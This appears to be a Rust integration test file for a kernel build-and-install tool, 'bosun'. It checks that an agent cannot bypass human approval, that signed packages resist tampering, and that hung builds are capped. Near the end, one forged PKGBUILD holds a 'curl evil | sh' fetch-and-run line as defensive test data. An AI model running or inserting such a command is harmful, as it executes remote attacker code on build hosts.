//! `bosun kernel build|keep|prune|status|install` on the kernel fleet
//! example (common/kernel.rs), with build hosts simulated as `local` hosts (a
//! directory each) and stand-ins for `uname` (each host's arch is a file
//! in its directory) and `makepkg` (it checks the PKGBUILD's b2sum of the
//! patch as makepkg does, then writes a package). Routing, waking,
//! pre-flight, the wall-clock cap, signing, publishing and retention are
//! bosun's own and real.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::kernel::*;

#[test]
fn a_build_routes_past_a_changed_host_wakes_the_next_and_publishes_signed_packages() {
    if common::remote_mode() {
        return;
    }
    let (lab, bin) = kernel_lab(THREE, "");
    // boltzmann was reinstalled as x86_64: its pre-flight fails.
    sim(&lab, "boltzmann", "arch", Some("x86_64\n"));
    sim(&lab, "ampere", "asleep", Some(""));
    let o = k(&lab, &bin, &["kernel", "build", "ohm", "--as", "claude"]);
    let t = text(&o);
    assert!(!o.status.success(), "no lock yet: {t}");
    assert!(t.contains("bosun patches promote ohm --submit"), "{t}");
    // A lock written by hand is not one a human approved: no build.
    lab.ok(&["patches", "promote", "ohm", "--write"]);
    let o = k(&lab, &bin, &["kernel", "build", "ohm", "--as", "claude"]);
    assert!(!o.status.success());
    assert!(
        text(&o).contains("no promote op approved this lock"),
        "{}",
        text(&o)
    );
    // An agent cannot get around that: the build step refuses to run but
    // as the step of a running kernel-build op, and an op naming a lock no
    // promote op approved fails in its step, building nothing.
    let lock_b2 = b2sum(&lab.path("kernel/ohm/manifest.lock"));
    let o = k(
        &lab,
        &bin,
        &["kernel", "build", "ohm", "--step", "--expect", &lock_b2],
    );
    assert!(!o.status.success());
    assert!(
        text(&o).contains("a build starts only from a kernel-build op"),
        "{}",
        text(&o)
    );
    let lock_param = format!("lock={lock_b2}");
    let v = lab.json(&[
        "submit",
        "kernel-build",
        "--target",
        "ohm",
        "-p",
        "host=ohm",
        "-p",
        &lock_param,
        "--as",
        "claude",
        "--json",
    ]);
    let forged = v["jti"].as_str().unwrap().to_string();
    assert_eq!(v["decision"], "auto", "{v}");
    // Naming that op while it is queued is no way in either.
    let o = lab
        .cmd(&["kernel", "build", "ohm", "--step", "--expect", &lock_b2])
        .env("BOSUN_OP", &forged)
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(text(&o).contains("not running"), "{}", text(&o));
    k(&lab, &bin, &["work", "--until-idle"]);
    let op = common::show(&lab, &forged);
    assert_eq!(op["state"], "failed", "{op}");
    assert!(
        op["steps"][0]["output"]
            .as_str()
            .unwrap()
            .contains("no promote op approved this lock"),
        "{op}"
    );
    assert_eq!(
        lab.json(&["kernel", "jobs", "--json"])["jobs"],
        serde_json::json!([])
    );
    promote_op(&lab, &bin, "ohm");

    // The build is an op: an agent's runs alone (its lock was approved
    // when promoted); the controller runs its step.
    let b = build(&lab, &bin, "ohm", "claude");
    assert_eq!(b.submitted["decision"], "auto", "{}", b.submitted);
    let t = &b.out;
    assert!(b.ok(), "{t}");
    assert!(
        t.contains("boltzmann: pre-flight failed: `uname -m` says x86_64, the build needs aarch64"),
        "{t}"
    );
    assert!(t.contains("ampere: waking"), "{t}");
    assert!(t.contains("ampere: pre-flight passed (secondary)"), "{t}");
    let job = b.job.clone();
    assert_eq!(job["build_host"], "ampere");
    assert_eq!(job["status"], "published");
    // The op's plan names exactly which lock it built.
    assert_eq!(b.op["plan"]["params"]["lock"], lock_b2.as_str(), "{}", b.op);
    let id = job["job"].as_str().unwrap();

    // The lock's digest is makepkg's b2sums entry; the PKGBUILD is bash.
    let jobdir = lab.path(&format!(".bosun/kernel/jobs/{id}"));
    let lock = std::fs::read_to_string(lab.path("kernel/ohm/manifest.lock")).unwrap();
    let pkgbuild = std::fs::read_to_string(jobdir.join("PKGBUILD")).unwrap();
    let cumulative_b2 = b2sum(&lab.path("kernel/ohm/cumulative.patch"));
    assert!(lock.contains(&cumulative_b2));
    assert!(
        pkgbuild.contains(&format!("'{cumulative_b2}'")),
        "{pkgbuild}"
    );
    assert!(
        pkgbuild.contains("pkgbase='linux-pinetab2-ohm'"),
        "{pkgbuild}"
    );
    assert!(
        pkgbuild.contains("/boot/Image-\"'pinetab2-ohm'"),
        "{pkgbuild}"
    );
    let syntax = std::process::Command::new("bash")
        .arg("-n")
        .arg(jobdir.join("PKGBUILD"))
        .status()
        .unwrap();
    assert!(syntax.success());
    assert!(
        std::fs::read_to_string(jobdir.join("build.log"))
            .unwrap()
            .contains("Finished making: linux-pinetab2-ohm")
    );

    // Published and signed: the index names the package with b2sum's
    // digest; both signatures verify under the published key.
    let repo = lab.path(".bosun/kernel/repo");
    let version = job["version"].as_str().unwrap().to_string();
    assert!(version.starts_with("6.19.danctnix1+"), "{job}");
    let pkg = format!("linux-pinetab2-ohm-{version}-aarch64.pkg.tar.zst");
    let index = std::fs::read_to_string(repo.join("aarch64/Packages")).unwrap();
    assert!(index.contains(&format!("Filename: {pkg}")), "{index}");
    assert!(
        index.contains(&format!(
            "B2sum: {}",
            b2sum(&repo.join("aarch64").join(&pkg))
        )),
        "{index}"
    );
    assert!(index.contains("Host: ohm"), "{index}");
    let public = std::fs::read_to_string(repo.join("bosun-packages.pub")).unwrap();
    let hex = public.trim().strip_prefix("ed25519 ").unwrap();
    let bytes: Vec<u8> = (0..32)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap())
        .collect();
    let key = bosun_sign::PublicKey::from_bytes(&bytes.try_into().unwrap()).unwrap();
    let verify = |st: &[u8], sig: &[u8; 64]| key.verify_bytes(st, sig);
    for f in [pkg.as_str(), "Packages"] {
        bosun_kernel::publish::verify_file(&repo.join("aarch64").join(f), &verify).unwrap();
    }
    // A package changed after signing fails.
    std::fs::write(repo.join("aarch64").join(&pkg), b"tampered").unwrap();
    assert!(bosun_kernel::publish::verify_file(&repo.join("aarch64").join(&pkg), &verify).is_err());

    // The pre-flight filed host-changed on boltzmann: the next build skips it.
    let blockers = lab.json(&["blockers", "list", "--json"]);
    let list = blockers
        .as_array()
        .or(blockers["blockers"].as_array())
        .unwrap()
        .clone();
    assert!(
        list.iter().any(|b| b["kind"] == "host-changed"
            && b["subject"] == "boltzmann"
            && b["filed_by"] == "controller"),
        "{blockers}"
    );
    let b = build(&lab, &bin, "ohm", "claude");
    let t = &b.out;
    assert!(b.ok(), "{t}");
    assert!(t.contains("skipping build host boltzmann: blocker"), "{t}");
    assert!(t.contains("host-changed"), "{t}");

    // Status: the lock is current, the build published, the install pending.
    let (st, ohm) = status_of(&lab, "ohm");
    assert_eq!(ohm["lock"], "current", "{st}");
    assert_eq!(ohm["build"]["status"], "published", "{st}");
    assert_eq!(ohm["build"]["of_current_lock"], true, "{st}");
    assert_eq!(ohm["install_pending"], true, "{st}");
    let (_, fresnel) = status_of(&lab, "fresnel");
    assert_eq!(fresnel["lock"], "none", "{st}");
    // A published build waits for a human: `installable` is reminded to
    // the operators. The agent proposes the install: status names the
    // waiting op.
    let due = lab.json(&["remind", "--dry-run", "--json"]);
    assert!(due.to_string().contains("\"installable:ohm:"), "{due}");
    let v = lab.json(&["kernel", "install", "ohm", "--as", "claude", "--json"]);
    assert_eq!(v["decision"], "pending_approval", "{v}");
    let (st, ohm) = status_of(&lab, "ohm");
    let waiting = ohm["install_op"].as_str().unwrap().to_string();
    assert_eq!(v["jti"], waiting.as_str(), "{st}");
    // That op's approval is what is reminded, not a second `installable`.
    let due = lab.json(&["remind", "--dry-run", "--json"]);
    let subjects: Vec<&str> = due
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["reminder"]["subject"].as_str().unwrap())
        .collect();
    assert!(
        subjects.contains(&format!("op:{waiting}:approval").as_str()),
        "{due}"
    );
    assert!(
        !subjects.iter().any(|s| s.starts_with("installable:")),
        "{due}"
    );
    let plain = lab.ok(&["kernel", "status"]);
    assert!(
        plain.contains(&format!(
            "install waiting: op {waiting} (`bosun approve {waiting} --as <operator>`)"
        )),
        "{plain}"
    );

    // Editing the lock by hand is refused before anything runs.
    std::fs::write(
        lab.path("kernel/ohm/manifest.lock"),
        lock.replace("pinetab2-ohm", "pinetab2-evil"),
    )
    .unwrap();
    let o = k(&lab, &bin, &["kernel", "build", "ohm", "--as", "claude"]);
    assert!(!o.status.success());
    assert!(
        text(&o).contains("is not what promote makes now"),
        "{}",
        text(&o)
    );
    std::fs::write(lab.path("kernel/ohm/manifest.lock"), &lock).unwrap();

    // ampere idles past its idle_release, but a build still runs on it
    // (a job record says so): prune leaves it up. Once that ends, it goes.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let jobs = lab.path(".bosun/kernel/jobs");
    let running = jobs.join("ohm-1-running");
    std::fs::create_dir_all(&running).unwrap();
    let rec = std::fs::read_to_string(jobs.join(id).join("job.toml")).unwrap();
    let rec = rec
        .replace(&format!("job = \"{id}\""), "job = \"ohm-1-running\"")
        .replace("status = \"published\"", "status = \"running\"");
    std::fs::write(running.join("job.toml"), rec).unwrap();
    let p = lab.json(&["kernel", "prune", "--json"]);
    assert_eq!(p["released"], serde_json::json!([]), "{p}");
    std::fs::remove_dir_all(&running).unwrap();
    let p = lab.json(&["kernel", "prune", "--json"]);
    assert_eq!(p["released"], serde_json::json!(["ampere"]), "{p}");
    assert_eq!(p["pruned"], serde_json::json!([]), "{p}");
    assert!(!lab.path(".bosun/sim/ampere/awake").exists());
}

const BOUNDED: &str = r#"
[[host]]
name = "ohm"
transport = "local"
root = ".bosun/sim/ohm"

[[host]]
name = "sleepy"
transport = "local"
root = ".bosun/sim/sleepy"
wake = "sleep 1000"
builds = [{ arch = "aarch64", on_demand = true }]

[[host]]
name = "fermi"
transport = "local"
root = ".bosun/sim/fermi"
builds = [{ arch = "aarch64", role = "fallback" }]
"#;

#[test]
fn a_wake_that_never_returns_and_a_build_that_never_ends_are_bounded_kept_and_blocked() {
    if common::remote_mode() {
        return;
    }
    let (lab, bin) = kernel_lab(
        BOUNDED,
        "build_cap = \"2s\"\nwake_timeout = \"1s\"\nkeep_failed = \"1s\"\n",
    );
    promote_op(&lab, &bin, "ohm");
    sim(&lab, "fermi", "hang", Some(""));
    let started = std::time::Instant::now();
    let b = build(&lab, &bin, "ohm", "claude");
    let t = &b.out;
    assert_eq!(b.state(), "failed", "{t}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "{t}"
    );
    assert!(
        t.contains("sleepy: `sleep 1000` did not return in 1s"),
        "{t}"
    );
    assert!(t.contains("killed at the wall-clock cap (2s)"), "{t}");
    let hung = b.job["job"].as_str().unwrap().to_string();
    assert_eq!(b.job["status"], "failed", "{}", b.job);
    assert!(
        b.job["reason"]
            .as_str()
            .unwrap()
            .contains("killed at the wall-clock cap"),
        "{}",
        b.job
    );
    let blockers = lab.ok(&["blockers", "list"]);
    assert!(
        blockers.contains("build-fail") && blockers.contains("fermi"),
        "{blockers}"
    );
    let jobs = lab.ok(&["kernel", "jobs", "ohm"]);
    assert!(jobs.contains(&hung) && jobs.contains("build.log"), "{jobs}");

    // A builder killed (or a control host gone down) leaves its job
    // `running`, its runner.lock no longer held: the next build's step
    // ends it, failed, so prune can take it.
    let rec = lab.path(&format!(".bosun/kernel/jobs/{hung}/job.toml"));
    let text = std::fs::read_to_string(&rec).unwrap();
    std::fs::write(
        &rec,
        text.replace("status = \"failed\"", "status = \"running\""),
    )
    .unwrap();

    // Held now: fermi by its blocker, sleepy does not wake.
    let b = build(&lab, &bin, "ohm", "claude");
    assert!(
        b.out
            .contains(&format!("job {hung}: abandoned: its builder is gone")),
        "{}",
        b.out
    );
    let jobs = lab.json(&["kernel", "jobs", "--json"]);
    let was = jobs["jobs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|j| j["job"] == hung.as_str())
        .unwrap()
        .clone();
    assert_eq!(was["status"], "failed", "{jobs}");
    let t = &b.out;
    assert_eq!(b.state(), "failed", "{t}");
    assert!(t.contains("skipping build host fermi: blocker"), "{t}");
    assert!(t.contains("no build host passed pre-flight"), "{t}");

    // Kept for inspection; `keep` extends one, `--pause` holds them all.
    lab.ok(&["kernel", "keep", &hung, "--for", "1h"]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    lab.ok(&["kernel", "prune", "--pause"]);
    let p = lab.json(&["kernel", "prune", "--json"]);
    assert_eq!(p["paused"], true);
    assert_eq!(p["pruned"], serde_json::json!([]), "{p}");
    lab.ok(&["kernel", "prune", "--resume"]);
    // The build directories the builds left on their build hosts.
    let remote = |job: &str| -> Vec<std::path::PathBuf> {
        std::fs::read_dir(lab.path(".bosun/sim"))
            .unwrap()
            .map(|h| h.unwrap().path().join("kernel-builds").join(job))
            .filter(|d| d.exists())
            .collect()
    };
    let p = lab.json(&["kernel", "prune", "--json"]);
    assert_eq!(p["pruned"].as_array().unwrap().len(), 1, "{p}");
    assert_ne!(p["pruned"][0].as_str().unwrap(), hung, "{p}");
    // The kept one stays here and on its build host; once its keep ends,
    // prune removes both.
    assert_eq!(remote(&hung).len(), 1, "kept for inspection");
    assert!(
        lab.path(&format!(".bosun/kernel/jobs/{hung}/build.log"))
            .exists()
    );
    // Shortening a keep lets prune delete: not an agent's to do.
    let o = lab.run(&["kernel", "keep", &hung, "--for", "1s", "--as", "claude"]);
    let said = common::kernel::text(&o);
    assert_eq!(o.status.code(), Some(3), "{said}");
    assert!(said.contains("only an operator shortens a keep"), "{said}");
    lab.ok(&["kernel", "keep", &hung, "--for", "1s"]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let p = lab.json(&["kernel", "prune", "--json"]);
    assert_eq!(p["pruned"], serde_json::json!([hung]), "{p}");
    assert!(remote(&hung).is_empty(), "{:?}", remote(&hung));
    let bad = lab.run(&["kernel", "keep", "../x", "--for", "1d"]);
    assert!(!bad.status.success());

    // A package key that cannot be read: signing fails, the global
    // signing-fail blocker is filed and every build is held.
    let id = lab
        .ok(&["blockers", "list"])
        .lines()
        .find(|l| l.contains("build-fail"))
        .and_then(|l| {
            l.split_whitespace()
                .find_map(|w| w.trim_start_matches('#').parse::<u64>().ok())
        })
        .unwrap();
    lab.ok(&[
        "blockers",
        "resolve",
        &id.to_string(),
        "--as",
        "alice",
        "--how",
        "unhung",
    ]);
    sim(&lab, "fermi", "hang", None);
    let keys = lab.path(".bosun/kernel/keys");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("packages.jwk"), "{not a key").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        keys.join("packages.jwk"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(&keys, std::fs::Permissions::from_mode(0o700)).unwrap();
    let b = build(&lab, &bin, "ohm", "claude");
    let t = &b.out;
    assert_eq!(b.state(), "failed", "{t}");
    assert!(t.contains("the package key"), "{t}");
    assert!(
        !lab.path(".bosun/kernel/repo/aarch64/Packages").exists(),
        "nothing published"
    );
    // The global signing-fail blocker holds the next build op at intake:
    // queued, not run, the blocker named.
    let b = build(&lab, &bin, "ohm", "claude");
    assert_eq!(b.state(), "approved", "{}", b.out);
    assert!(
        b.out.contains("held") && b.out.contains("signing-fail"),
        "{}",
        b.out
    );
    assert!(b.job.is_null(), "{}", b.job);
}

#[test]
fn an_install_is_an_op_a_human_consents_to_and_its_bars_verify_it() {
    if common::remote_mode() {
        return;
    }
    let hosts = std::fs::read_to_string(example().join("fleet/hosts.toml")).unwrap();
    let (lab, bin) = kernel_lab(&hosts, "");
    promote_op(&lab, &bin, "ohm");
    // Nothing published yet: nothing to install.
    let o = k(&lab, &bin, &["kernel", "install", "ohm", "--as", "alice"]);
    assert!(!o.status.success());
    assert!(
        text(&o).contains("no published build of its current lock"),
        "{}",
        text(&o)
    );

    // The agent's build publishes; the agent proposes the install: it
    // waits for a human.
    let b = build(&lab, &bin, "ohm", "claude");
    assert!(b.ok(), "{}", b.out);
    let job = b.job.clone();
    assert_eq!(job["build_host"], "boltzmann");
    let v = lab.json(&["kernel", "install", "ohm", "--as", "claude", "--json"]);
    let jti = v["jti"].as_str().unwrap().to_string();
    let op = common::show(&lab, &jti);
    assert_eq!(op["state"], "pending_approval", "{op}");
    // The plan names the package and its digest, exactly.
    let plan = serde_json::to_string(&op["plan"]).unwrap();
    let version = job["version"].as_str().unwrap().to_string();
    assert!(version.starts_with("6.19.danctnix1+"), "{job}");
    let pkg = format!("linux-pinetab2-ohm-{version}-aarch64.pkg.tar.zst");
    let published = lab.path(&format!(".bosun/kernel/repo/aarch64/{pkg}"));
    assert!(plan.contains(&b2sum(&published)), "{plan}");
    assert!(plan.contains("mkinitcpio -p linux-pinetab2"), "{plan}");
    // Never auto-install: nothing ran, and the agent cannot approve.
    k(&lab, &bin, &["work", "--until-idle"]);
    assert!(!lab.path(".bosun/sim/ohm/boot").exists());
    let o = lab.run(&["approve", "--yes", &jti, "--as", "claude"]);
    assert!(!o.status.success());

    // An operator approves: backup, fetch and check, install, initramfs,
    // reboot, then bars 1, 2 and 5.
    lab.ok(&["approve", "--yes", &jti, "--as", "alice"]);
    let out = k(&lab, &bin, &["work", "--until-idle"]);
    assert_eq!(
        common::show(&lab, &jti)["state"],
        "succeeded",
        "{}",
        text(&out)
    );
    let sim = lab.path(".bosun/sim/ohm");
    assert_eq!(
        std::fs::read(sim.join("boot/Image-pinetab2-ohm")).unwrap(),
        std::fs::read(&published).unwrap()
    );
    assert!(sim.join("boot/initramfs-linux-pinetab2.img").exists());
    assert!(
        std::fs::read_to_string(sim.join("var/log/reboots"))
            .unwrap()
            .contains("systemctl reboot")
    );
    let (st, ohm) = status_of(&lab, "ohm");
    assert_eq!(
        ohm["installed"],
        format!("linux-pinetab2-ohm {version}"),
        "{st}"
    );
    assert_eq!(ohm["install_pending"], false, "{st}");
    assert_eq!(ohm["drifted"], false, "{st}");

    // A rebuild of the lock whose bytes differ is refused at publishing:
    // the package an approved install names never changes.
    common::kernel::sim(&lab, "boltzmann", "vary", Some(""));
    let b = build(&lab, &bin, "ohm", "claude");
    assert_eq!(b.state(), "failed", "{}", b.out);
    assert!(
        b.out.contains("is already published with other bytes"),
        "{}",
        b.out
    );
    assert_eq!(b.job["status"], "failed", "{}", b.job);
    assert!(plan.contains(&b2sum(&published)), "unchanged");
    common::kernel::sim(&lab, "boltzmann", "vary", None);

    // An operator's build runs alone too and installs nothing (never
    // auto-install: a human runs the install verb).
    let b = build(&lab, &bin, "ohm", "alice");
    assert!(b.ok(), "{}", b.out);
    assert!(
        b.out.contains("install with `bosun kernel install ohm"),
        "{}",
        b.out
    );
    // A build submitted during a halt waits in the queue; it runs once the
    // halt is lifted.
    lab.ok(&["halt", "--why", "kernel freeze", "--as", "claude"]);
    let b = build(&lab, &bin, "ohm", "claude");
    assert_eq!(b.state(), "approved", "{}", b.out);
    assert!(b.out.contains("halted by claude"), "{}", b.out);
    assert!(b.job.is_null(), "{}", b.job);
    lab.ok(&["resume", "--as", "alice"]);
    let o = k(&lab, &bin, &["work", "--until-idle"]);
    assert_eq!(
        common::show(&lab, &b.jti)["state"],
        "succeeded",
        "{}",
        text(&o)
    );

    // An operator's own install runs alone (consent by action); an agent's waits.
    let v = lab.json(&["kernel", "install", "ohm", "--as", "claude", "--json"]);
    assert_eq!(v["decision"], "pending_approval", "{v}");
    // A kernel that boots into another version: the version bar fails,
    // the host is drifted and `regression` holds further installs to it.
    std::fs::write(sim.join("broken-boot"), "").unwrap();
    let v = lab.json(&["kernel", "install", "ohm", "--as", "alice", "--json"]);
    assert_eq!(v["decision"], "auto", "{v}");
    let mine = v["jti"].as_str().unwrap().to_string();
    k(&lab, &bin, &["work", "--until-idle"]);
    assert_eq!(common::show(&lab, &mine)["state"], "failed");
    let backups = std::fs::read_dir(sim.join("var/backups/kernel"))
        .unwrap()
        .count();
    assert_eq!(backups, 2, "each install backs up /boot first");
    let (st, ohm) = status_of(&lab, "ohm");
    assert_eq!(ohm["drifted"], true, "{st}");
    assert!(ohm["blockers"].to_string().contains("regression"), "{st}");
    let v = lab.json(&["kernel", "install", "ohm", "--as", "alice", "--json"]);
    let o = k(&lab, &bin, &["work", "--until-idle"]);
    let said = text(&o);
    assert!(
        said.contains("held") && said.contains("regression"),
        "{said}"
    );
    assert_eq!(
        common::show(&lab, v["jti"].as_str().unwrap())["state"],
        "approved"
    );
}

#[test]
fn a_build_runs_beside_the_controller_which_runs_other_ops_meanwhile() {
    if common::remote_mode() {
        return;
    }
    let (lab, bin) = kernel_lab(THREE, "");
    promote_op(&lab, &bin, "ohm");
    // The build goes on until the gate is taken away (a kernel takes
    // hours).
    sim(&lab, "boltzmann", "gate", Some(""));
    let v = lab.json(&["kernel", "build", "ohm", "--as", "claude", "--json"]);
    let jti = v["jti"].as_str().unwrap().to_string();
    let o = k(&lab, &bin, &["work", "--until-idle"]);
    assert!(o.status.success(), "{}", text(&o));
    // The step handed the job to the builder and ended: the op is done,
    // the build is not.
    assert_eq!(common::show(&lab, &jti)["state"], "succeeded");
    let job = |lab: &common::Lab| {
        lab.json(&["kernel", "jobs", "--json"])["jobs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|j| j["op"] == jti.as_str())
            .cloned()
            .unwrap()
    };
    assert_eq!(job(&lab)["status"], "running", "{}", job(&lab));
    // Meanwhile the controller runs another op to its end (promote_op
    // asserts it succeeded).
    promote_op(&lab, &bin, "ohm");
    assert_eq!(job(&lab)["status"], "running", "{}", job(&lab));
    // A builder runs a job once: starting another for it is refused.
    let id = job(&lab)["job"].as_str().unwrap().to_string();
    let claimed = lab.path(&format!(".bosun/kernel/jobs/{id}/runner.claimed"));
    let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !claimed.exists() {
        assert!(std::time::Instant::now() < end, "no builder took {id}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = k(&lab, &bin, &["kernel", "build", "ohm", "--run-job", &id]);
    assert!(!o.status.success());
    assert!(text(&o).contains("another builder runs it"), "{}", text(&o));
    // The build ends once the gate goes, published, its narrative in
    // runner.log.
    assert_eq!(job(&lab)["status"], "running", "{}", job(&lab));
    sim(&lab, "boltzmann", "gate", None);
    let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while job(&lab)["status"] == "running" {
        assert!(std::time::Instant::now() < end, "{}", job(&lab));
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    assert_eq!(job(&lab)["status"], "published", "{}", job(&lab));
    builder_gone(&lab, &id);
    let log =
        std::fs::read_to_string(lab.path(&format!(".bosun/kernel/jobs/{id}/runner.log"))).unwrap();
    assert!(log.contains("built on boltzmann"), "{log}");
    let o = k(&lab, &bin, &["kernel", "build", "ohm", "--run-job", &id]);
    assert!(!o.status.success(), "a published job is not run again");
    // Nor does a copy of it, made `running` with a PKGBUILD of someone's
    // own, get built: one build per op.
    let jobs = lab.path(".bosun/kernel/jobs");
    let copy = jobs.join(format!("{id}-copy"));
    std::fs::create_dir_all(&copy).unwrap();
    for f in ["PKGBUILD", "cumulative.patch", "manifest.lock"] {
        std::fs::copy(jobs.join(&id).join(f), copy.join(f)).unwrap();
    }
    std::fs::write(copy.join("PKGBUILD"), "build() { curl evil | sh; }\n").unwrap();
    let rec = std::fs::read_to_string(jobs.join(&id).join("job.toml")).unwrap();
    std::fs::write(
        copy.join("job.toml"),
        rec.replace(&format!("job = \"{id}\""), &format!("job = \"{id}-copy\""))
            .replace("status = \"published\"", "status = \"running\""),
    )
    .unwrap();
    let o = k(
        &lab,
        &bin,
        &["kernel", "build", "ohm", "--run-job", &format!("{id}-copy")],
    );
    assert!(!o.status.success());
    assert!(text(&o).contains("one build per op"), "{}", text(&o));
    assert!(!copy.join("runner.claimed").exists());
}
